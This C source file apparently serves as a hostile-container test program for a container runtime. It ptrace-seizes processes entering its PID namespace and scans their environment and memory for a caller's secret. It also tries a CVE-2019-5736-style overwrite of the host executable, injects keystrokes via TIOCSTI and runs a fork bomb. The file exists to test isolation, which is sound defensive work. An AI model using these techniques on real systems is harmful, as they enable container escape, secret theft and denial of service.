/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * intruder.c - programs of a hostile container. Static: runs in any.
 *
 * nsv-intruder boot BOUND FILE: as the main process, keeps the capabilities BOUND (hex) and hunts.
 * FILE has a secret of the callers.
 *
 * nsv-intruder wait BOUND: the same, and waits.
 *
 * nsv-intruder tiocsti: types an 'x' into its terminals, prints "typed" or "failed".
 *
 * nsv-intruder bomb: forks as often as it can.
 *
 * The hunt seizes each process that gets a number in this PID namespace by ptrace(2), and writes a
 * line for each to /vol/seen:
 *
 *	PID early|late stronger=MASK root=own|other fds=none|FD... environ=0|1 mem=0|1 wrote=0|1
 *
 * early: before it has executed a program of the container. stronger: capabilities that this
 * container's processes do not have. environ, mem: the caller's secret was found. wrote: a byte was
 * written to the program file of the process.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static char secret[64];
static uint64_t own_caps;

static int print(FILE *f, const char *format, ...)
{
	va_list args;
	int n;

	va_start(args, format);
	n = vfprintf(f, format, args);
	va_end(args);
	return n;
}

/* ---- looks at a process ---- */

static ssize_t read_proc(int pid, const char *name, char *to, size_t size)
{
	char path[64];
	ssize_t n, used = 0;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, O_RDONLY);
	while (fd >= 0 && (n = read(fd, to + used, size - 1 - (size_t)used)) > 0)
		used += n;
	to[used] = '\0';
	if (fd >= 0)
		(void)close(fd);
	return fd < 0 ? -1 : used;
}

static uint64_t caps_of(int pid)
{
	static const char *const sets[] = { "CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:" };
	char text[8192];
	uint64_t all = 0;

	if (read_proc(pid, "status", text, sizeof(text)) < 0)
		return 0;
	for (size_t i = 0; i < sizeof(sets) / sizeof(*sets); i++) {
		char *at = strstr(text, sets[i]);

		all |= at ? strtoull(at + strlen(sets[i]), NULL, 16) : 0;
	}
	return all;
}

static int has_own_root(int pid)
{
	char path[64];
	struct stat own, its;

	(void)snprintf(path, sizeof(path), "/proc/%d/root", pid);
	if (stat(path, &its) < 0 || stat("/", &own) < 0)
		return 1;
	return own.st_dev == its.st_dev && own.st_ino == its.st_ino;
}

/* Those through which there is more than a pipe, a socket or this container's /dev/null. */
static void print_fds(FILE *f, int pid)
{
	char path[64], at[400];
	struct dirent *d;
	int n = 0;
	DIR *dir;

	(void)snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	dir = opendir(path);
	(void)print(f, " fds=");
	while (dir && (d = readdir(dir))) {
		struct stat st, null;

		(void)snprintf(at, sizeof(at), "%s/%s", path, d->d_name);
		if (*d->d_name == '.' || stat(at, &st) < 0 || S_ISFIFO(st.st_mode) ||
		    S_ISSOCK(st.st_mode))
			continue;
		if (stat("/dev/null", &null) == 0 && st.st_dev == null.st_dev &&
		    st.st_ino == null.st_ino)
			continue;
		(void)print(f, "%s%s:%o", n++ ? "," : "", d->d_name, st.st_mode);
	}
	if (dir)
		(void)closedir(dir);
	(void)print(f, "%s", n ? "" : "none");
}

static int has_secret(const char *text, ssize_t n)
{
	return n > 0 && memmem(text, (size_t)n, secret, strlen(secret)) != NULL;
}

/* Regions of the process that can be written, up to 32 MiB each: heap, stack, data. */
static int mem_has_secret(int pid)
{
	static char maps[1 << 20], page[1 << 16];
	char path[64], *line, *rest = maps;
	int fd, found = 0;

	if (read_proc(pid, "maps", maps, sizeof(maps)) < 0)
		return 0;
	(void)snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDONLY);
	while (fd >= 0 && !found && (line = strsep(&rest, "\n")) && *line) {
		unsigned long from, to;
		char mode[5];

		if (sscanf(line, "%lx-%lx %4s", &from, &to, mode) != 3 || mode[1] != 'w')
			continue;
		for (; from < to && to - from < 32 << 20 && !found; from += sizeof(page) - 4096)
			found = has_secret(page, pread(fd, page, sizeof(page), (off_t)from));
	}
	if (fd >= 0)
		(void)close(fd);
	return found;
}

/* Also a process that is ending: it has no file any more, and nobody needs a right to seize it. */
static int is_programs_own(int pid)
{
	char path[64], exe[4096];
	ssize_t n;

	(void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, exe, sizeof(exe) - 1);
	exe[n > 0 ? n : 0] = '\0';
	return n <= 0 || strcmp(exe, "/bin/busybox") == 0;
}

/* As in CVE-2019-5736: an fd of the file is opened anew for writing once the process is gone. */
static int overwrites(int pid, int exe)
{
	char path[64];
	int fd, wrote = 0;

	(void)kill(pid, SIGKILL);
	(void)waitpid(pid, NULL, __WALL);
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
	for (int i = 0; i < 2000 && !wrote; i++) {
		fd = open(path, O_WRONLY);
		if (fd >= 0) {
			wrote = pwrite(fd, "X", 1, 0) == 1;
			(void)close(fd);
			break;
		}
		if (errno != ETXTBSY)
			break;
		(void)usleep(1000);
	}
	return wrote;
}

/* ---- the hunt ---- */

static void examine(FILE *f, int pid)
{
	static char text[1 << 20];
	uint64_t caps = caps_of(pid);
	char path[64];
	int early, exe;

	(void)ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	(void)waitpid(pid, NULL, __WALL);
	(void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	early = !is_programs_own(pid);
	exe = early ? open(path, O_RDONLY) : -1;
	caps |= caps_of(pid);
	(void)print(f, "%d %s stronger=%llx root=%s", pid, early ? "early" : "late",
		    (unsigned long long)(caps & ~own_caps), has_own_root(pid) ? "own" : "other");
	print_fds(f, pid);
	(void)print(f, " environ=%d mem=%d",
		    has_secret(text, read_proc(pid, "environ", text, sizeof(text))),
		    mem_has_secret(pid));
	(void)print(f, " wrote=%d\n", exe >= 0 ? overwrites(pid, exe) : 0);
	(void)fflush(f);
	if (exe >= 0)
		(void)close(exe);
	else
		(void)ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* The number given last here; so no process gets past while this one does not run. */
static int last_number(int fd)
{
	char text[32];
	ssize_t n = pread(fd, text, sizeof(text) - 1, 0);

	text[n > 0 ? n : 0] = '\0';
	return atoi(text);
}

static int is_zombie(int pid)
{
	char text[1024], *end;

	if (read_proc(pid, "stat", text, sizeof(text)) <= 0)
		return 1;
	end = strrchr(text, ')');
	return !end || strchr("ZX", end[2]) != NULL;
}

/*
 * True: it was there. Undumpable processes may be seized later, when they are another program.
 * Processes whose parents ended are this one's to reap, as the first of the PID namespace.
 */
static int try(FILE *f, int pid)
{
	while (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
		if (errno != EPERM)
			return 0;
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
		if (is_zombie(pid))
			return 0;
	}
	examine(f, pid);
	return 1;
}

static _Noreturn void hunt(void)
{
	int last = getpid(), numbers = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
	FILE *f = fopen("/vol/seen", "a");

	if (!f || numbers < 0)
		_exit(1);
	(void)print(f, "hunting\n");
	(void)fflush(f);
	for (;;) {
		int newest = last_number(numbers);

		for (int pid = last + 1; pid <= newest + 1; pid++)
			if (try(f, pid))
				last = pid;
		if (newest > last)
			last = newest;
	}
}

static int drop_caps(uint64_t keep)
{
	struct __user_cap_header_struct head = { _LINUX_CAPABILITY_VERSION_3, 0 };
	struct __user_cap_data_struct data[2];

	for (int cap = 0; prctl(PR_CAPBSET_READ, cap) >= 0; cap++)
		if (!(keep >> cap & 1) && prctl(PR_CAPBSET_DROP, cap) < 0)
			return -1;
	for (int i = 0; i < 2; i++) {
		data[i].effective = data[i].permitted = (uint32_t)(keep >> 32 * i);
		data[i].inheritable = 0;
	}
	return (int)syscall(SYS_capset, &head, data);
}

static int boot(const char *bound, const char *file)
{
	FILE *f = file ? fopen(file, "r") : NULL;

	own_caps = strtoull(bound, NULL, 16);
	if (file && (!f || !fgets(secret, sizeof(secret), f) || fclose(f)))
		return 1;
	secret[strcspn(secret, "\n")] = '\0';
	if (drop_caps(own_caps) < 0) {
		perror("capabilities");
		return 1;
	}
	while (!file)
		(void)pause();
	hunt();
}

/* ---- programs that nsrun runs ---- */

static int type_into_terminals(void)
{
	int typed = 0;

	for (int fd = 0; fd < 3; fd++)
		typed |= ioctl(fd, TIOCSTI, "x") == 0;
	for (int i = 0; i < 3; i++) {
		char path[32];
		int fd;

		(void)snprintf(path, sizeof(path), i == 2 ? "/dev/tty" : "/proc/self/fd/%d", i);
		fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
		typed |= fd >= 0 && ioctl(fd, TIOCSTI, "x") == 0;
	}
	return puts(typed ? "typed" : "failed") < 0;
}

static _Noreturn void bomb(void)
{
	for (;;) {
		pid_t pid = fork();

		if (pid == 0) {
			(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
			for (;;)
				(void)pause();
		}
		if (pid < 0)
			(void)usleep(1000);
	}
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "boot"))
		return boot(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "wait"))
		return boot(argv[2], NULL);
	if (argc == 2 && !strcmp(argv[1], "tiocsti"))
		return type_into_terminals();
	if (argc == 2 && !strcmp(argv[1], "bomb"))
		bomb();
	return 2;
}
